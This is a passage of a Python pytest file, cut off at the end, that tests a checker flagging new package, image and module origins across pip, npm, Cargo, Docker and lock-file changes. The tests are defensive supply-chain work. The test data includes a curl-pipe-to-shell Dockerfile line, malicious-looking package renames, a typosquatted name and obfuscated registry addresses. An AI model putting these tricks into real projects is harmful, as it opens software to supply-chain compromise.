"""Where packages, images and modules are fetched from: compared before and after, by kind of file."""

from __future__ import annotations

import json
from fnmatch import fnmatch

import pytest

from pipelines.patch import Change, Changed, remarks
from pipelines.patch.origin_table import ROWS
from pipelines.patch.origins import origins

OURS, OTHER = "https://packages.example.org", "https://mirror.example.net"


def told(path: str, before: str, after: str) -> tuple[tuple[str, ...], tuple[str, ...]]:
    change = Change.MODIFIED if before else Change.ADDED
    return origins((Changed(path=path, change=change, before=before, after=after),))


def lock(**resolved: str) -> str:
    entries = {
        f"node_modules/{name.replace('__', '/')}": {"version": "1.0.0", "resolved": address, "integrity": "sha512-AA=="}
        for name, address in resolved.items()
    }
    return json.dumps({"lockfileVersion": 3, "packages": {"": {}} | entries}, indent=2)


GITHUB = "https://api.github.com/repos/{}/zipball/abc"


def composed(url: str) -> str:
    return json.dumps({"packages": [{"name": "a/b", "dist": {"type": "zip", "url": url}}]})


PYPROJECT = '[project]\nname = "shop"\ndependencies = ["flask>=3"]\n'
CARGO = '[package]\nname = "shop"\n[dependencies]\nserde = "1"\n'
PIP = "flask==3.0.0\n"

NEW = [
    ("requirements.txt", PIP, f"{PIP}-i {OTHER}/simple\n"),
    ("requirements-dev.txt", PIP, f"--find-links={OTHER}/wheels\n{PIP}"),
    ("requirements/base.in", PIP, f"{PIP}-c {OTHER}/constraints.txt\n"),
    ("constraints.txt", PIP, f"{PIP}jinja2 @ git+ssh://git@forge.example.net/jinja.git@main\n"),
    ("requirements.txt", f"--index-url {OURS}/simple\n{PIP}", f"--index-url {OURS}/other\n{PIP}"),
    ("requirements.txt", PIP, f"{PIP}--trusted-host forge.example.net\n"),
    ("requirements.txt", PIP, f"{PIP}-e git@forge.example.net:shop/web.git\n"),
    ("pyproject.toml", PYPROJECT, PYPROJECT.replace("flask>=3", f"flask @ {OTHER}/flask-3.0.1-py3-none-any.whl")),
    ("pyproject.toml", PYPROJECT, f'{PYPROJECT}[tool.uv]\nextra-index-url = ["{OTHER}/simple"]\n'),
    ("pyproject.toml", PYPROJECT, f'{PYPROJECT}[tool.uv.sources]\nflask = {{ git = "{OTHER}/flask" }}\n'),
    ("pyproject.toml", PYPROJECT, f'{PYPROJECT}[[tool.poetry.source]]\nname = "x"\nurl = "{OTHER}/simple"\n'),
    ("pyproject.toml", PYPROJECT, f'{PYPROJECT}[build-system]\nrequires = ["x @ {OTHER}/x.whl"]\n'),
    ("setup.cfg", "[options]\n", f"[options]\ninstall_requires =\n  x @ {OTHER}/x.zip\n"),
    ("Pipfile", "[packages]\n", f'[[source]]\nurl = "{OTHER}/simple"\n[packages]\n'),
    ("Cargo.toml", CARGO, f'{CARGO}[patch.crates-io]\nserde = {{ git = "{OTHER}/serde" }}\n'),
    ("Cargo.toml", CARGO, CARGO.replace('"1"', '{ version = "1", package = "evil-serde" }')),
    ("Cargo.toml", CARGO, CARGO.replace('"1"', '{ version = "1", package = "_serde" }')),
    ("Cargo.toml", CARGO, f'{CARGO}[workspace.dependencies]\nb = {{ version = "1", package = "evil-b" }}\n'),
    ("package.json", '{"a": 1,,}', '{"a": "\\u0068ttps:\\u002f\\u002fevil.example/x.tgz",,}'),
    ("Cargo.toml", CARGO, f'{CARGO}[target."cfg(unix)".dependencies.serde]\npackage = "evil-serde"\n'),
    ("package.json", "{}", json.dumps({"dependencies": {"a": f"{OTHER}/a-1.0.0.tgz"}})),
    ("package.json", "{}", json.dumps({"devDependencies": {"a": "somebody/a#main"}})),
    ("package.json", "{}", json.dumps({"overrides": {"a": {"b": "npm:c@1.0.0"}}})),
    ("composer.json", "{}", json.dumps({"repositories": [{"type": "composer", "url": OTHER}]})),
    ("deno.json", "{}", json.dumps({"imports": {"a": f"{OTHER}/a@1.0.0/mod.ts"}})),
    ("Gemfile", f'source "{OURS}"\n', f'source "{OURS}"\ngem "a", git: "{OTHER}/a.git"\n'),
    ("Gemfile", f'source "{OURS}"\n', f'source "{OURS}"\ngem "a", github: "somebody/a"\n'),
    ("go.mod", "module shop\n", "module shop\nreplace example.org/a v1.0.0 => example.net/a v1.0.0\n"),
    ("go.mod", "module shop\n", "module shop\nreplace (\n\texample.org/a => ../a\n)\n"),
    ("api/Api.csproj", "<Project/>", f"<Project><RestoreSources>{OTHER}/v3/index.json</RestoreSources></Project>"),
    ("pom.xml", "<project/>", f"<project><repository>\n<id>a</id>\n<url>{OTHER}</url></repository></project>"),
    ("build.gradle.kts", "plugins {}\n", f'repositories {{ maven("{OTHER}") }}\n'),
    ("Dockerfile", "FROM python:3.11\n", "FROM forge.example.net/python:3.11\n"),
    ("Dockerfile", "ARG BASE=python\nFROM $BASE\n", "ARG BASE=forge.example.net/python\nFROM $BASE\n"),
    ("Dockerfile", "FROM ${BASE:-python:3.11}\n", "FROM ${BASE:-forge.example.net/python:3.11}\n"),
    ("Dockerfile", "ARG A=a\nFROM x/$A\n", "ARG A=b\nARG B=$A\nFROM x/${B}\n"),
    *(
        ("Dockerfile", f"ARG J=goodA\nFROM {image}/x\n", f"ARG J=evilA\nFROM {image}/x\n")
        for image in ("${J%A}.io", "${J/A/}.io", "${J##*A}", "${K:-${J}}", "${J:-${K:-a}}", "${J%${K}}.io", "${J:?a}")
    ),
    ("Dockerfile", "FROM ${J#a@x}good.io/x\n", "FROM ${J#a@x}evil.io/x\n"),
    ("Dockerfile", "FROM python:3.11\n", "# escape=`\nFROM forge.example.net/python:3.11\n"),
    ("Dockerfile", "FROM python:3.11\n", "# as before \\\nFROM forge.example.net/python:3.11\n"),
    *(
        ("Dockerfile", "FROM python:3.11\n", f"RUN a \\{end}\nFROM forge.example.net/python:3.11\n")
        for end in ("\v", "\f", "\x1c", "\x85", "\u2028")
    ),
    ("Dockerfile", "FROM python:3.11\r\n", "FROM a \\\r\n AS b\r\nFROM forge.example.net/python:3.11\r\n"),
    ("Dockerfile", "ARG J=evilgood\nFROM ${J%%evil}.io/x\n", "ARG J=evilgood\nFROM ${J%%good}.io/x\n"),
    ("Dockerfile", "FROM a\n", "FROM a\nONBUILD COPY --from=evil.example.net/x /a /b\n"),
    (
        "Dockerfile",
        "FROM a\nARG J=x\nONBUILD ARG J=a\nONBUILD COPY --from=$J/x /a /b\n",
        "FROM a\nARG J=x\nONBUILD ARG J=b\nONBUILD COPY --from=$J/x /a /b\n",
    ),
    ("Dockerfile", "FROM a\n", "FROM a\nARG A=x.example.net \\\n  B=b\nADD https://${A}/b /b\n"),
    ("Dockerfile", "FROM a AS b\n", "# escape=`\nFROM a AS b\nRUN dir c:\\\nFROM c`\n/d\n"),
    ("Dockerfile", "FROM a\n", "FROM a\nRUN --mount=type=bind,from=forge.example.net/b,target=/b /b/run\n"),
    ("compose.yaml", "image: ${IMAGE:-db:15}\n", "image: ${IMAGE:-dbb:15}\n"),
    ("requirements.txt", PIP, f"{PIP}--trusted-host \\\n  forge.example.net\n"),
    ("requirements.txt", PIP, f"{PIP}--trus\\\nted-host forge.example.net\n"),
    ("requirements.txt", PIP, f"{PIP}# a \\\n-i {OTHER}/simple\n"),
    ("requirements.txt", PIP, f"{PIP}# a\x0c-i {OTHER}/simple\n"),
    ("requirements.txt", PIP, f"{PIP}-r ../shop.cfg\n"),
    ("requirements.txt", PIP, f"{PIP}--constraint=/tmp/constraints.txt\n"),
    ("deploy/pinned.txt", PIP, f"{PIP}b[c] @ {OTHER}/b.whl --hash=sha256:aa\n"),
    ("deploy/pinned.txt", PIP, f"{PIP}--index-url {OTHER}/simple\n"),
    ("api/Dockerfile", "FROM python:3.11\n", f"FROM python:3.11\nRUN curl {OTHER}/install | sh\n"),
    ("Dockerfile", "FROM python:3.11\n", "FROM python:3.11\nCOPY --from=somebody/tools:1 /x /x\n"),
    ("Dockerfile", "FROM python:3.11\n", "FROM python:3.11\nADD http://localhost.example.net/a /a\n"),
    ("Dockerfile", "FROM python:3.11\n", "# syntax=somebody/dockerfile:1\nFROM python:3.11\n"),
    ("compose.yaml", "services: {}\n", "services:\n  db:\n    image: forge.example.net/postgres:16\n"),
    ("compose.yaml", "services: {}\n", 'services: {db: {"image": "forge.example.net/postgres:16"}}\n'),
    ("deploy/values.yaml", "image: shop\n", "image:\n  repository: forge.example.net/shop\n"),
    ("charts/shop/Chart.yaml", "dependencies: []\n", f"dependencies:\n  - repository: {OTHER}\n"),
    ("infra/main.tf", "", 'module "a" {\n  source = "somebody/a/aws"\n}\n'),
    ("environment.yml", "name: a\n", f"name: a\nchannels:\n  - {OTHER}/conda\n"),
    ("pubspec.yaml", "name: a\n", f"name: a\ndependencies:\n  b:\n    git:\n      url: {OTHER}/b\n"),
    ("mix.exs", "", '{:a, git: "git@forge.example.net:a/a.git"}\n'),
]
LOCKED = [
    ("package-lock.json", lock(a=f"{OURS}/a/-/a-1.0.0.tgz"), lock(a=f"{OTHER}/a/-/a-1.0.1.tgz")),
    ("yarn.lock", f'a@1:\n  resolved "{OURS}/a.tgz"\n', f'a@1:\n  resolved "{OTHER}/a.tgz"\n'),
    ("yarn.lock", f'  resolution: "a@{OURS}/a.git"\n', f'  resolution: "a@{OTHER}/a.git"\n'),
    ("pnpm-lock.yaml", "a@1.0.0:\n", f"a@1.0.0:\n  resolution: {{tarball: {OTHER}/a.tgz}}\n"),
    ("bun.lock", '{"packages": {}}', f'{{"packages": {{"a": ["a@1", "{OTHER}/a.tgz"]}}}}'),
    ("uv.lock", f'source = {{ registry = "{OURS}/simple" }}\n', f'source = {{ registry = "{OTHER}/simple" }}\n'),
    ("uv.lock", f'source = {{ registry = "{OURS}/simple" }}\n', 'source = { git = "ssh://git@forge.example.net/a" }\n'),
    ("poetry.lock", "[[package]]\n", f'[[package]]\n[package.source]\nurl = "{OTHER}/simple"\n'),
    ("pdm.lock", "[[package]]\n", f'[[package]]\nurl = "{OTHER}/a.whl"\n'),
    ("Pipfile.lock", f'{{"url": "{OURS}"}}', f'{{"url": "{OTHER}"}}'),
    ("Cargo.lock", f'source = "registry+{OURS}/index"\n', f'source = "git+{OTHER}/serde#abc"\n'),
    ("Package.resolved", f'{{"location": "{OURS}/a"}}', f'{{"location": "{OTHER}/a"}}'),
    ("Chart.lock", f"dependencies: [{{repository: '{OURS}'}}]", f"dependencies:\n- repository: {OTHER}\n"),
    ("Gemfile.lock", f"GEM\n  remote: {OURS}/\n", f"GEM\n  remote: {OTHER}/\n"),
    ("composer.lock", composed(f"{OURS}/a"), composed(f"{OTHER}/a")),
]


@pytest.mark.parametrize(("path", "before", "after"), NEW)
def test_a_new_place_to_fetch_from_is_refused(path: str, before: str, after: str) -> None:
    refused, _ = told(path, before, after)
    assert refused
    assert refused[0].startswith(f"`{path}` fetches from a new place (`")
    assert told(path, after, after) == ((), ())


@pytest.mark.parametrize(("path", "before", "after"), LOCKED)
def test_a_lock_file_that_names_another_host_is_refused(path: str, before: str, after: str) -> None:
    (sentence,), remarked = told(path, before, after)
    assert "mirror.example.net" in sentence or "forge.example.net" in sentence
    assert not any("no address stood there before" in one for one in remarked)


def test_each_kind_of_file_is_shown_by_an_example() -> None:
    shown = [path.lower().rpartition("/")[2] for path, _, _ in (*NEW, *LOCKED)]
    missing = [row.names for row in ROWS if not any(matches_any(name, row.names) for name in shown)]
    assert missing == []


def matches_any(name: str, patterns: tuple[str, ...]) -> bool:
    return any(fnmatch(name, pattern.rpartition("/")[2].replace("**", "*")) for pattern in patterns)


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("requirements.txt", f"--index-url {OURS}/simple\n{PIP}", f"-i {OURS}/simple/\nflask==3.0.1\n"),
        ("requirements.txt", PIP, f"# see {OTHER}/simple\n{PIP}"),
        ("requirements.txt", f"{PIP}-r base.txt\n", f"-r base.txt\n{PIP}-e ./libs/shop\n"),
        ("requirements.txt", f"a @ {OURS}/a-1.0.0-py3-none-any.whl\n", f"a @ {OURS}/a-1.0.1-py3-none-any.whl\n"),
        ("requirements.txt", f"a @ git+{OURS}/a.git@v1.0\n", f"a @ git+{OURS}/a.git@v1.1#egg=a\n"),
        ("pyproject.toml", PYPROJECT, f'{PYPROJECT}[project.urls]\nHomepage = "{OTHER}"\n'),
        ("package.json", "{}", json.dumps({"homepage": OTHER, "repository": "somebody/a"})),
        ("package.json", '{"dependencies": {"a": "^1.0.0"}}', '{"dependencies": {"a": ">=1.0.0 <2 || 3.x"}}'),
        ("package.json", "{}", json.dumps({"dependencies": {}, "bugs": {"url": OTHER}})),
        ("package-lock.json", lock(a=f"{OURS}/a/-/a-1.0.0.tgz"), lock(a=f"{OURS}/a/-/a-1.0.1.tgz")),
        (
            "package-lock.json",
            lock(a=f"{OURS}/a/-/a-1.tgz"),
            lock(a=f"{OURS}/a/-/a-1.tgz", c__d=f"{OURS}/c%2Fd/-/d.tgz"),
        ),
        ("Dockerfile", "FROM python:3.11 AS build\nFROM scratch\n", "FROM python:3.12 AS build\nFROM build\n"),
        ("Dockerfile", "FROM python:3.11\n", "FROM python@sha256:" + "a" * 64 + "\n"),
        ("Dockerfile", "FROM python:3.11\n", f"# {OTHER}\nFROM python:3.11\n"),
        ("Dockerfile", "FROM a:1\n", f"FROM a:1\nHEALTHCHECK CMD curl -f http://web:80/up\nLABEL source={OTHER}\n"),
        ("Dockerfile", "FROM a:1\n", "FROM a:1\nRUN serve & wget http://localhost:8080/up http://127.0.0.1/x\n"),
        ("compose.yaml", "image: db:15\n", "image: db:16\n    environment:\n      API_URL: http://api:8080\n"),
        ("Cargo.toml", f'{CARGO}package = "1"\n', f'{CARGO}package = "=2.0"\n'),
        ("Cargo.toml", CARGO, CARGO.replace('"1"', '{ version = "1", registry = "ours", features = ["derive"] }')),
        ("go.mod", "module shop\n", "module shop\n// replace a => b\n"),
        ("src/shop/addresses.py", "A = 1\n", f"A = '{OTHER}'\n"),
        (
            "composer.lock",
            composed(f"{OURS}/a"),
            composed(f"{OURS}/b").replace('"name"', f'"homepage": "{OTHER}", "name"'),
        ),
        ("notes.txt", "a\n", f"a\nsee {OTHER}/simple\n{OTHER}\n  -x b\n -f FILE\n -c FILE\nmail me@example.org\n"),
        ("Dockerfile", "ARG V=3.11\nFROM python:${V}\n", "ARG V=3.12\nFROM python:${V}\n"),
        ("Dockerfile", "FROM python:3.11\n", "ARG BASE=python:3.11\nFROM $BASE\n"),
        ("Dockerfile", "ARG V=3.11-a\nFROM python:${V%-a}\n", "ARG V=3.12-a\nFROM python:${V%-a}\n"),
        ("Dockerfile", "FROM ${BASE}\nENV P=$P:/a\n", "FROM ${BASE:?a}\nENV P=$P:/b\nENV P=$P:/c\n"),
        (
            "Dockerfile",
            "FROM ${BASE:-python:3.11} AS a\nFROM a\n",
            "ARG BASE=python:3.12\nFROM \\\n # b\n\n$BASE AS a\nFROM a\n",
        ),
        ("Dockerfile", "FROM python:3.11\n", "FROM python:3.11\nARG MODE=fast\nENV A=1 \\\n B=$MODE\n"),
    ],
)
def test_the_same_places_in_other_versions_pass(path: str, before: str, after: str) -> None:
    assert told(path, before, after) == ((), ())


@pytest.mark.parametrize(
    "line",
    [
        *(
            "--pre -r other.txt",
            "--requirem other.txt",
            "--c=other.txt",
            "--constraint=other.txt",
            "--constraint other.txt",
        ),
        *("-r other.txt", "-rother.txt", "-c other.txt", "--requirement=other.txt", "--requirement  \\\n other.txt"),
    ],
)
def test_another_file_of_packages_that_is_taken_in_is_remarked(line: str) -> None:
    refused, (sentence,) = told("requirements.txt", PIP, f"{PIP}{line}\n")
    assert refused == ()
    assert sentence == "`requirements.txt` takes in other files of packages: `other.txt`."


@pytest.mark.parametrize("name", ["../shop/requirements.txt", "/etc/requirements.txt", "notes.md"])
def test_a_file_that_is_not_compared_itself_is_a_new_place(name: str) -> None:
    (sentence,), remarked = told("requirements.txt", PIP, f"-r {OURS}/more.txt\n-r {name}\n{PIP}")
    assert f"`{name}`" in sentence
    assert remarked == ()


def test_what_is_not_there_any_more_and_what_did_not_change_is_not_looked_at() -> None:
    assert told("package-lock.json", "{}", "") == ((), ())
    assert told("package-lock.json", "{", "{") == ((), ())
    other = Changed(path="README.md", change=Change.MODIFIED, before="a", after="b")
    pip = Changed(path="requirements.txt", change=Change.MODIFIED, before=PIP, after=f"-i {OTHER}/simple\n{PIP}")
    assert origins((other, pip)) == origins((pip,)) != ((), ())


def test_the_builder_of_a_new_package_is_not_another_one() -> None:
    assert told("pyproject.toml", "", f'{PYPROJECT}[build-system]\nbuild-backend = "backend"\n')[0] == ()


def test_a_host_is_held_against_a_file_that_could_not_be_read_before() -> None:
    (sentence,), _ = told("package-lock.json", "{", lock(a=f"{OTHER}/a/-/a-1.0.0.tgz"))
    assert "of which it held nothing before" in sentence


@pytest.mark.parametrize(
    ("count", "end"), [(3, "`https://c.example.org`)"), (4, "`https://c.example.org` and 1 more)")]
)
def test_a_sentence_names_three_places(count: int, end: str) -> None:
    lines = "".join(f"--extra-index-url https://{name}.example.org\n" for name in "abcd"[:count])
    (sentence,), _ = told("requirements.txt", PIP, f"{lines}{PIP}")
    assert f"{end}; a person" in sentence


def test_a_package_of_composer_that_moves_to_another_repository_is_refused() -> None:
    (sentence,), _ = told("composer.lock", composed(GITHUB.format("a/b")), composed(GITHUB.format("somebody/b")))
    assert sentence.startswith("`composer.lock` fetches `a/b` from another repository than before;")


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("Cargo.lock", 'source = "git+https://github.com/{}/b?branch=main#abc"\n'),
        ("uv.lock", 'source = {{ git = "https://github.com/{}/b?rev=1#abc" }}\n'),
        (
            "package-lock.json",
            '{{"packages": {{"node_modules/b": {{"resolved": "git+ssh://git@github.com/{}/b.git#c"}}}}}}',
        ),
        ("pnpm-lock.yaml", "tarball: https://codeload.github.com/{}/b/tar.gz/abc\n"),
    ],
)
def test_where_anybody_may_offer_something_the_repository_counts_too(path: str, text: str) -> None:
    assert told(path, text.format("team"), text.format("team").replace("abc", "def")) == ((), ())
    (sentence,), _ = told(path, text.format("team"), text.format("somebody"))
    assert "somebody/b`, of which it held nothing before" in sentence


def test_a_new_lock_file_is_remarked_with_its_hosts() -> None:
    refused, (sentence,) = told("package-lock.json", "", lock(a=f"{OURS}/a/-/a-1.0.0.tgz"))
    assert refused == ()
    assert "`https://packages.example.org`; no address stood there before" in sentence


def test_an_archive_of_another_name_is_refused() -> None:
    before = lock(a=f"{OURS}/a/-/a-1.0.0.tgz", c__d=f"{OURS}/c/d/-/d-1.0.0.tgz")
    (sentence,), _ = told("package-lock.json", before, before.replace("/a/-/a-1", "/ab/-/ab-1"))
    assert sentence == "`package-lock.json` fetches an archive of another name for `a`; restore it."


@pytest.mark.parametrize("value", ['build-backend = "backend"', 'build-backend = "b"\nbackend-path = ["."]'])
def test_another_program_that_builds_is_refused(value: str) -> None:
    (sentence,), _ = told("pyproject.toml", PYPROJECT, f"{PYPROJECT}[build-system]\nrequires = []\n{value}\n")
    assert "is built by another program" in sentence


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("requirements.txt", PIP, f"{PIP}flaskk==1.0\n"),
        ("pyproject.toml", PYPROJECT, PYPROJECT.replace('"flask>=3"', '"flask>=3", "flaskk[x]>1"')),
        ("package.json", "{}", '{"devDependencies": {"flaskk": "1.0.0"}}'),
        ("Cargo.toml", CARGO, f'{CARGO}flaskk = "1"\n'),
        ("Pipfile", "[packages]\n", '[packages]\nflaskk = "*"\n'),
        ("Gemfile", "", 'gem "flaskk"\n'),
        ("Api.csproj", "<Project/>", '<Project><PackageReference Version="1" Include="flaskk" /></Project>'),
    ],
)
def test_a_package_that_was_not_asked_for_is_remarked(path: str, before: str, after: str) -> None:
    found = remarks((Changed(path=path, change=Change.MODIFIED, before=before, after=after),))
    assert f"`{path}` asks for packages that it did not ask for: `flaskk`." in found


def test_a_go_module_that_was_not_asked_for_is_remarked() -> None:
    after = "module shop\nrequire (\n\texample.net/flaskk v1.0.0 // indirect\n)\n"
    assert "`example.net/flaskk`" in told("go.mod", "module shop\n", after)[1][0]


@pytest.mark.parametrize(
    "path",
    [
        *("bun.lock", "yarn.lock", "pom.xml", "Dockerfile", "package-lock.json", "build.gradle"),
        *("requirements.txt", "notes.txt", "pnpm-lock.yaml", "uv.lock"),
    ],
)
def test_hostile_texts_are_read_in_a_bounded_number_of_steps(path: str) -> None:
    for text in ("a." * 50_000, "\n" * 100_000, "<repository>" * 9_000, "FROM " * 20_000, '"node_modules/' * 9_000):
        told(path, "x", text)  # hours, if each place were read to the end


NPM_LOCK = lock(lodash=f"{OURS}/lodash/-/lodash-4.17.20.tgz")
OLD_LOCK = json.dumps({"dependencies": {"a": {"version": "1.0.0", "resolved": f"{OURS}/a/-/a-1.0.0.tgz"}}})
PIP_LOCK = json.dumps({"_meta": {"sources": [{"url": f"{OURS}/simple"}]}})
UV_LOCK = f'[[package]]\nname = "a"\nsource = {{ registry = "{OURS}/simple" }}\n'
CARGO_LOCK = f'[[package]]\nname = "a"\nsource = "registry+{OURS}/index"\n'
BUN_LOCK = '{\n  // written by bun\n  "packages": {"a": ["a@1.0.0", "", {}, "sha512-AA=="],},\n}\n'
YARN_LOCK = f'lodash@^4.0.0:\n  version "4.17.20"\n  resolved "{OURS}/lodash/-/lodash-4.17.20.tgz#ab"\n'
BERRY_LOCK = '"lodash@npm:^4.0.0":\n  version: 4.17.20\n  resolution: "lodash@npm:4.17.20"\n'
PNPM_LOCK = "lockfileVersion: '9.0'\npackages:\n  a@1.0.0:\n    resolution: {integrity: sha512-AA==}\n"
PNPM_LOCKS = {
    "importers:\n b:\n    dependencies:\n      a:\n        specifier: ^1.0.0\n        version: {}\n": "1.0.0(@x/y@2.0)",
    "lockfileVersion: '6.0'\ndevDependencies:\n  a:\n    specifier: ^1.0.0\n    version: {}\n": "1.0.0(@x/y@2.0.0)",
    "lockfileVersion: 5.4\nspecifiers:\n  a: ^1.0.0\ndependencies:\n  a: {}\n": "1.0.0_@x+y@2.0.0",
    "snapshots:\n  x@1.0.0(y@2.0.0):\n    optionalDependencies:\n      a: {}\n": "1.0.0",
    "packages:\n  /x@1.0.0:\n    dependencies:\n      a: {}\n": "link:../1a",
}
"""Where a file of pnpm says which package a dependency is, with what is said there of the package of that name."""
SLASHES = OTHER.replace("/", "\\/")
HIDDEN = OTHER.replace("/", "\\u002f")


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("package-lock.json", NPM_LOCK, NPM_LOCK.replace(OURS, SLASHES)),
        ("package-lock.json", NPM_LOCK, NPM_LOCK.replace(OURS, HIDDEN)),
        ("package-lock.json", NPM_LOCK, NPM_LOCK.replace("resolved", "reso\\u006cved").replace(OURS, OTHER)),
        ("package-lock.json", NPM_LOCK, NPM_LOCK.replace(OURS, OTHER.replace("://", ":"))),
        ("package-lock.json", NPM_LOCK, NPM_LOCK.replace(OURS, OTHER.replace("/", "\\\\"))),
        ("package-lock.json", NPM_LOCK, NPM_LOCK.replace(OURS, "https://mirror.example.net\\\\@packages.example.org")),
        ("package-lock.json", NPM_LOCK, NPM_LOCK.replace(OURS, "h\\tttps://mirror.example.net")),
        ("package-lock.json", NPM_LOCK, NPM_LOCK.replace(OURS, "\\u0001https://mirror.example.net")),
        ("package-lock.json", NPM_LOCK, NPM_LOCK.replace(f"{OURS}/", "file:///mirror.example.net/")),
        ("package-lock.json", OLD_LOCK, OLD_LOCK.replace("1.0.0", f"git+{OTHER}/a.git", 1)),
        ("composer.lock", composed(f"{OURS}/a"), composed(f"{OURS}/a").replace(OURS, SLASHES)),
        ("composer.lock", composed(f"{OURS}/a"), composed(f"{OTHER}/a").replace("dist", "d\\u0069st")),
        ("Pipfile.lock", PIP_LOCK, PIP_LOCK.replace(OURS, HIDDEN)),
        ("Pipfile.lock", PIP_LOCK, PIP_LOCK.replace(OURS, OTHER).replace('"url"', '"\\u0075rl"')),
        ("uv.lock", UV_LOCK, f"{UV_LOCK}[[package.wheels]]\nurl = '{OTHER}/a.whl'\n"),
        ("uv.lock", UV_LOCK, UV_LOCK.replace(OURS, HIDDEN)),
        ("uv.lock", UV_LOCK, UV_LOCK.replace("registry", '"registr\\u0079"').replace(OURS, OTHER)),
        ("Cargo.lock", CARGO_LOCK, f"{CARGO_LOCK}[[package]]\nsource = 'git+{OTHER}/b'\n"),
        ("poetry.lock", "[[package]]\n", f"[[package]]\n[package.source]\nurl = '{OTHER}/simple'\n"),
        ("pdm.lock", "[[package]]\n", f"[[package]]\nurl = '{OTHER}/a.whl'\n"),
        ("bun.lock", BUN_LOCK, BUN_LOCK.replace('""', f'"{SLASHES}/a.tgz"')),
        ("bun.lock", BUN_LOCK, BUN_LOCK.replace("a@1.0.0", f"a@{OTHER}/a.tgz")),
        ("yarn.lock", YARN_LOCK, YARN_LOCK.replace(OURS, SLASHES)),
        ("yarn.lock", YARN_LOCK, YARN_LOCK.replace(OURS, OTHER).replace("resolved", '"reso\\u006cved"')),
        (
            "yarn.lock",
            YARN_LOCK,
            YARN_LOCK.replace("\n  resolved", f' #" resolved "{OTHER}/lodash/-/lodash-1.tgz"\n  integrity'),
        ),
        ("yarn.lock", BERRY_LOCK, BERRY_LOCK.replace("lodash@npm:4.17.20", f"lodash@{OTHER}/lodash.tgz")),
        ("pnpm-lock.yaml", "a: 1\n", f'a: {{"tarball": "{OTHER}/a.tgz"}}\n'),
        (
            "pnpm-lock.yaml",
            PNPM_LOCK,
            PNPM_LOCK.replace("sha512-AA==", f'sha512-AA==, "tarb\\x61ll": "{HIDDEN}/a.tgz"'),
        ),
        (
            "pnpm-lock.yaml",
            PNPM_LOCK,
            PNPM_LOCK.replace("integrity: sha512-AA==", "tarball: //mirror.example.net/a.tgz"),
        ),
        (
            "pnpm-lock.yaml",
            PNPM_LOCK,
            f"x: &b {OTHER}/a.tgz\n" + PNPM_LOCK.replace("integrity: sha512-AA==", "tarball: *b"),
        ),
        (
            "package-lock.json",
            NPM_LOCK,
            NPM_LOCK.replace('"version"', f'"dependencies": {{"b": "{OTHER}/b.tgz"}}, "version"'),
        ),
        (
            "package-lock.json",
            NPM_LOCK,
            NPM_LOCK.replace('"version"', '"dependencies": {"b": "somebody/b"}, "version"'),
        ),
        ("Package.resolved", f'["location": "{OURS}/a"]', f'{{"pins": [{{"location": "{SLASHES}/a.git"}}]}}'),
        ("pubspec.lock", "packages: {a: {url: 'https://x.example.org'}}", f"packages:\n  a: {{url: '{OTHER}'}}\n"),
        ("package.json", "{}", json.dumps({"dependencies": {"a": "https:\\\\mirror.example.net\\a.tgz"}})),
    ],
)
def test_an_address_that_is_written_in_another_way_is_refused(path: str, before: str, after: str) -> None:
    refused, _ = told(path, before, after)
    assert any(
        ("fetches" in sentence and "new place" in sentence) or "held nothing before" in sentence for sentence in refused
    )
    assert told(path, after, after) == ((), ())


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("package-lock.json", NPM_LOCK, NPM_LOCK.replace("/", "\\/").replace("4.17.20", "4.17.21")),
        ("package-lock.json", NPM_LOCK, "\ufeff" + NPM_LOCK),
        (
            "package-lock.json",
            NPM_LOCK,
            NPM_LOCK.replace('"": {}', '"node_modules/web": {"resolved": "web", "link": true}'),
        ),
        ("package-lock.json", NPM_LOCK, NPM_LOCK.replace('"": {}', '"node_modules/web": {"version": "file:../web"}')),
        ("package-lock.json", NPM_LOCK, NPM_LOCK.replace('"": {}', f'"": {{"funding": {{"url": "{OTHER}"}}}}')),
        (
            "composer.lock",
            composed(f"{OURS}/a"),
            composed(f"{OURS}/a").replace('"dist"', f'"support": {{"source": "{OTHER}"}}, "dist"'),
        ),
        ("Pipfile.lock", PIP_LOCK, PIP_LOCK.replace("}]}", '}]}, "default": {"shop": {"file": "./libs/shop"}}')),
        ("uv.lock", UV_LOCK, f'{UV_LOCK}[[package]]\nname = "shop"\nsource = {{ editable = "." }}\n'),
        ("uv.lock", UV_LOCK, UV_LOCK.replace('"', "'")),
        ("bun.lock", BUN_LOCK, BUN_LOCK.replace("1.0.0", "1.0.1")),
        ("bun.lock", BUN_LOCK, BUN_LOCK.replace("a@1.0.0", "shop@workspace:packages/shop")),
        ("yarn.lock", YARN_LOCK, YARN_LOCK.replace("4.17.20", "4.17.21")),
        ("yarn.lock", BERRY_LOCK, BERRY_LOCK.replace("4.17.20", "4.17.21")),
        ("yarn.lock", BERRY_LOCK, f'{BERRY_LOCK}"b@npm:lodash@^4":\n  resolution: "lodash@npm:4.17.20"\n'),
        ("package.json", "{}", json.dumps({"dependencies": {"a": "workspace:^"}})),
        ("yarn.lock", BERRY_LOCK, f'{BERRY_LOCK}"b@patch:b@npm%3A^1#optional!builtin<compat/b>":\n  version: 1\n'),
        (
            "package-lock.json",
            NPM_LOCK,
            NPM_LOCK.replace('"version"', '"dependencies": {"b": "workspace:*"}, "version"'),
        ),
        ("pnpm-lock.yaml", PNPM_LOCK, f"---\n{PNPM_LOCK.replace('1.0.0', '1.0.1')}    deprecated: see {OTHER}\n"),
        ("uv.lock", UV_LOCK, f"{UV_LOCK}sdist = {{ url = '{OURS}/x/A-1.1.tar.gz' }}\n"),
        (
            "Cargo.lock",
            CARGO_LOCK.replace("registry+", "git+"),
            CARGO_LOCK.replace("registry+", "git+").replace('x"', 'x#b"'),
        ),
        (
            "package-lock.json",
            NPM_LOCK,
            NPM_LOCK.replace('"version"', '"dependencies": {"b": "npm:c@^1", "d": "1.x || >=2"}, "version"'),
        ),
        ("composer.lock", composed(GITHUB.format("a/b")), composed(GITHUB.format("a/b")).replace("abc", "def")),
        ("composer.lock", composed(GITHUB.format("a/b")), composed(GITHUB.format("c/d")).replace('"a/b"', '"c/e"')),
    ],
)
def test_a_lock_file_of_the_same_hosts_passes(path: str, before: str, after: str) -> None:
    assert told(path, before, after)[0] == ()


@pytest.mark.parametrize(
    ("path", "before", "after"),
    [
        ("package-lock.json", NPM_LOCK, NPM_LOCK[:-3]),
